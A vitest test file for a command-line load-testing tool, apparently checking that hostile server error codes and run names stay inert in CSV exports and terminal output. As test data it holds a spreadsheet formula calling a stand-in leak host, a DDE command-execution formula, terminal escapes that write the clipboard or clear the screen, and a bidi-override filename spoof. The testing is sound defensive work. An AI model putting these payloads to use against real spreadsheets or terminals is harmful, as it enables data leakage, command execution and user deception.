import { startTestbedServer, type Testbed } from "@taillab/backend";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "./test-support/run-cli.ts";

/**
 * A hostile server and hostile names: what a server answers and what a run is called must reach
 * spreadsheets as text and terminals as text, whatever they look like.
 */

const FORMULA_CODE = '=HYPERLINK("http://evil.example/?leak","open")';
const FORMULA_NAME = "=cmd|' /C calc'!A0";
/** Writes the clipboard (OSC 52), rings the bell, then clears the screen. */
const ESCAPE_CODE = "\u001b]52;c;ZXZpbA==\u0007\u001b[2JSlowDown";
/** Sets the window title, then returns to the line's start to print over it. */
const ESCAPE_TEXT = "\u001b]0;pwned\u0007lab\rrun\u009b31m";
const CONTROL_BUT_NEWLINE = /(?!\n)\p{Cc}/u;

let scratch: string;
let server: Testbed;
let gets = 0;

beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), "taillab-cli-hostile-"));
  server = await startTestbedServer({
    buckets: ["loadgen"],
    interceptor: ({ operation }) => {
      if (operation !== "GetObject") return;
      gets += 1;
      const code = gets % 2 === 1 ? FORMULA_CODE : ESCAPE_CODE;
      return { fault: { status: 500, code, message: "hostile" } };
    },
  });
});
afterAll(async () => {
  await server?.close();
  await rm(scratch, { recursive: true, force: true });
});

const KEYS = { AWS_ACCESS_KEY_ID: "any", AWS_SECRET_ACCESS_KEY: "any" };

/** Runs against the hostile server, whose GETs fail with FORMULA_CODE and ESCAPE_CODE in turn. */
function hostileRun(name: string, ...flags: string[]) {
  return runCli(
    [
      "run",
      "--endpoint",
      server.url,
      ...["--clients", "1", "--samples", "2", "--size", "1KiB", "--name", name],
      ...flags,
    ],
    KEYS,
  );
}

/** The cells of a CSV that start like a formula (after an opening quote, if quoted). */
function formulaCells(csv: string): string[] {
  return [...csv.matchAll(/(?:^|,)"?([=+@]|-(?!\d))[^,\r\n]*/gm)].map((match) => match[0]);
}

describe("hostile server codes and run names in CSV", () => {
  it("a server's formula-like error code and a formula-like run name stay text in every CSV", async () => {
    const out = join(scratch, "out");
    const run = await hostileRun(FORMULA_NAME, "--out", out, "--json");
    expect(run.code, run.stderr).toBe(1);
    const { runId } = JSON.parse(run.stdout) as { runId: string };

    const requests = await readFile(join(out, "requests.csv"), "utf8");
    expect(requests).toContain("'=HYPERLINK(");
    expect(formulaCells(requests)).toEqual([]);

    const summaryFile = join(scratch, "summary.csv");
    const requestsFile = join(scratch, "requests.csv");
    for (const args of [
      ["--out", summaryFile],
      ["--requests", "--out", requestsFile],
    ]) {
      const report = await runCli(["report", runId, "--format", "csv", ...args]);
      expect(report.code, report.stderr).toBe(0);
    }
    const summary = await readFile(summaryFile, "utf8");
    expect(summary).toContain(`'${FORMULA_NAME}`);
    expect(summary).toContain("'=HYPERLINK(");
    expect(formulaCells(summary)).toEqual([]);
    const exported = await readFile(requestsFile, "utf8");
    expect(exported).toContain("'=HYPERLINK(");
    expect(formulaCells(exported)).toEqual([]);
  });
});

describe("hostile server codes, names, tags and notes in the terminal", () => {
  it("taillab run, runs list and runs show print no control character but their own newlines", async () => {
    const run = await hostileRun(ESCAPE_TEXT);
    expect(run.code, run.stderr).toBe(1);
    const runId = /Run id: (\S+)/.exec(run.stdout)?.[1] ?? "";
    expect(run.stdout).toContain("]52;c;ZXZpbA==[2JSlowDown 1");
    const tagged = await runCli(["runs", "tag", runId, `tag${ESCAPE_TEXT}`]);
    const noted = await runCli(["runs", "note", runId, `note${ESCAPE_TEXT}`]);
    const listed = await runCli(["runs", "list"]);
    const shown = await runCli(["runs", "show", runId]);
    for (const [what, result] of Object.entries({ run, tagged, noted, listed, shown })) {
      expect(result.code === 0 || what === "run", `${what}: ${result.stderr}`).toBe(true);
      expect(result.stdout + result.stderr, what).not.toMatch(CONTROL_BUT_NEWLINE);
    }
    expect(listed.stdout).toContain("]0;pwnedlabrun31m");
    expect(shown.stdout).toMatch(/^]0;pwnedlabrun31m \(/);
    expect(shown.stdout).toContain("tags: tag]0;pwnedlabrun31m\n");
    expect(shown.stdout).toContain("notes: note]0;pwnedlabrun31m\n");
    expect(shown.stdout.split("\n").length).toBeGreaterThan(10);
  });
});

/** Characters JSON.stringify leaves raw that a terminal obeys or that reorder what it shows. */
const RAW_IN_JSON = /[\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;
const BIDI = /[\u202a-\u202e\u2066-\u2069]/u;
/** An 8-bit CSI (U+009B), DEL, a right-to-left override and an isolate. */
const C1_BIDI_CODE = "Slow\u202eDown\u009b2J\u007f\u2066x\u2069";
/** Shows as "runexe.jpg" in a terminal that honours the override. */
const C1_BIDI_TEXT = "run\u202egpj.exe\u009b31m";

/** Every string in a parsed JSON value, keys included. */
function stringsIn(value: unknown): string[] {
  if (typeof value === "string") return [value];
  if (Array.isArray(value)) return value.flatMap(stringsIn);
  if (value !== null && typeof value === "object") {
    return Object.entries(value).flatMap(([key, entry]) => [key, ...stringsIn(entry)]);
  }
  return [];
}

describe("hostile C1 and bidi characters", () => {
  let bidiServer: Testbed;
  beforeAll(async () => {
    bidiServer = await startTestbedServer({
      buckets: ["loadgen"],
      interceptor: ({ operation }) =>
        operation === "GetObject"
          ? { fault: { status: 500, code: C1_BIDI_CODE, message: "hostile" } }
          : undefined,
    });
  });
  afterAll(async () => {
    await bidiServer?.close();
  });

  it("every JSON the CLI prints escapes them, and parses back to the same text", async () => {
    const run = await runCli(
      [
        "run",
        ...["--endpoint", bidiServer.url, "--clients", "1", "--samples", "2", "--size", "1KiB"],
        ...["--name", C1_BIDI_TEXT, "--json"],
      ],
      KEYS,
    );
    expect(run.code, run.stderr).toBe(1);
    const { runId } = JSON.parse(run.stdout) as { runId: string };
    const tagged = await runCli(["runs", "tag", runId, C1_BIDI_TEXT, "--json"]);
    const outputs = {
      run,
      tagged,
      list: await runCli(["runs", "list", "--json"]),
      show: await runCli(["runs", "show", runId, "--json"]),
      report: await runCli(["report", runId, "--format", "json"]),
      compare: await runCli(["compare", runId, "--json"]),
    };
    const carries = {
      run: [C1_BIDI_CODE],
      tagged: [C1_BIDI_TEXT],
      list: [C1_BIDI_TEXT],
      show: [C1_BIDI_TEXT, C1_BIDI_CODE],
      report: [C1_BIDI_TEXT, C1_BIDI_CODE],
      // Figures and run ids only: nothing hostile to keep, nothing raw to print.
      compare: [],
    };
    for (const [what, result] of Object.entries(outputs)) {
      expect(result.code === 0 || what === "run", `${what}: ${result.stderr}`).toBe(true);
      expect(result.stdout, what).not.toMatch(RAW_IN_JSON);
      expect(result.stdout, what).not.toMatch(CONTROL_BUT_NEWLINE);
      const strings = stringsIn(JSON.parse(result.stdout));
      for (const text of carries[what as keyof typeof carries]) {
        expect(result.stdout, what).toContain("\\u202E");
        expect(strings, `${what} keeps ${JSON.stringify(text)}`).toContain(text);
      }
    }
  });

  it("the terminal's text drops the bidi overrides and isolates, as it drops controls", async () => {
    const run = await runCli(
      [
        "run",
        ...["--endpoint", bidiServer.url, "--clients", "1", "--samples", "2", "--size", "1KiB"],
        ...["--name", C1_BIDI_TEXT],
      ],
      KEYS,
    );
    expect(run.code, run.stderr).toBe(1);
    const runId = /Run id: (\S+)/.exec(run.stdout)?.[1] ?? "";
    const listed = await runCli(["runs", "list"]);
    const shown = await runCli(["runs", "show", runId]);
    for (const [what, result] of Object.entries({ run, listed, shown })) {
      expect(result.stdout + result.stderr, what).not.toMatch(BIDI);
      expect(result.stdout + result.stderr, what).not.toMatch(CONTROL_BUT_NEWLINE);
    }
    expect(run.stdout).toContain("SlowDown2Jx 2");
    expect(shown.stdout).toMatch(/^rungpj\.exe31m \(/);
  });
});
